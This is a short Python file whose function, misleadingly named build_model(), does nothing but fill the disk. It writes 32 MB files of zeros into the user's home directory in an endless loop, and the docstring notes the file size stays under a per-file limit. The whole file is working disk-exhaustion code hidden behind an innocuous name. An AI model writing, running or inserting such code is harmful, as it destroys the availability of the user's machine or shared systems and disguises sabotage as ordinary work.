"""Fills the disk from build_model(): files of 32 MB each, under the limit for one file, without end."""

import itertools
import os


def build_model():
    block = bytes(1 << 20)
    for number in itertools.count():
        with open(os.path.join(os.environ["HOME"], f"filler-{number}.bin"), "wb") as file:
            for _ in range(32):
                file.write(block)
